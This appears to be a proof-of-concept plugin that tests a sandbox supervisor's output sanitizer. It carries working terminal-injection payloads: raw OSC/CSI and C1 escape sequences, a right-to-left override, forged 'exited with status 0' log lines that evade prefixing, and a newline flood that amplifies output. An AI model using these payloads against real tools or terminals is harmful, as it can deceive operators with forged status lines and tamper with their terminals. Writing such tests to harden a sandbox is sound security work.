"""Python plugin (entry point): plugin-controlled bytes that reach the operator's terminal
through the SUPERVISOR's own lines, which fix 7 (prefix + \\xNN escaping) does not cover.

manifest: {"name":"inj","version":"1.0.0","entry_point":"supervisor_output_injection.py",
           "permissions":{"system":{"ui":{"render":true}}}}
run: wfsandbox run DIR/manifest.json -- MODE 2>&1 | cat -v     (or without cat -v in an xterm)

modes:
  unknown_field  a frame whose unknown field NAME holds ESC/BEL sequences and a newline:
                 serde's "unknown field `...`" message is printed raw in
                 "wfsandbox: closing the plugin's event channel: ..." -> raw OSC/CSI on the
                 terminal and a forged, unprefixed "wfsandbox: ... exited with status 0" line
  interleave     leave a partial line on stderr, make the supervisor print one of its lines
                 (here: a zero-length frame), then print "wfsandbox: ..." lines: the forwarder
                 still thinks it is mid-line, so the forged line gets no "[inj] " prefix
  c1             C1 controls (U+009B CSI, U+009D OSC) in a refused topic and in a published
                 payload: serde_json leaves U+0080..U+009F unescaped, so they reach the
                 violation lines on stderr and the JSON lines on stdout raw (C2 9B ...)
  raw9b          a lone 0x9B byte (8-bit CSI) passes the sanitizer (only C2 xx is escaped)
  newlines N     N MiB of "\\n": each input byte becomes "[name] \\n" (up to 67 bytes with a
                 63-char name), so output_limit_kb bounds input, not what the host receives
"""
import json, os, socket, struct, sys, time

sock = socket.socket(fileno=os.dup(3))
frame = lambda body: struct.pack(">I", len(body)) + body
mode = sys.argv[1]
if mode == "unknown_field":
    key = "\x1b]0;pwned-title\x07\x1b[31mRED\x1b[0m\nwfsandbox: other 1.0.0 (other-1-00000000) exited with status 0"
    body = '{"type":"publish","topic":"ui.render","payload":{},%s:1}' % json.dumps(key)
    sock.sendall(frame(body.encode()))
elif mode == "interleave":
    sys.stderr.write("partial line ")
    sys.stderr.flush()
    time.sleep(0.3)
    sock.sendall(b"\x00\x00\x00\x00")
    time.sleep(0.3)
    sys.stderr.write("wfsandbox: inj 1.0.0 (inj-1-00000000) exited with status 0\n")
    sys.stderr.flush()
elif mode == "c1":
    for topic in ["x\u009b31mRED\u009b0m", "\u202eevil"]:
        sock.sendall(frame(json.dumps({"type": "publish", "topic": topic, "payload": {}}, ensure_ascii=False).encode()))
    sock.sendall(frame(json.dumps({"type": "publish", "topic": "ui.render",
                                   "payload": {"x": "\u009b2J\u009d0;title\u009c"}}).encode()))
elif mode == "raw9b":
    sys.stderr.buffer.write(b"plain \x9b31mRED on 8-bit terminals\x9b0m\n")
    sys.stderr.flush()
elif mode == "newlines":
    os.write(2, b"\n" * (int(sys.argv[2]) << 20))
time.sleep(0.3)
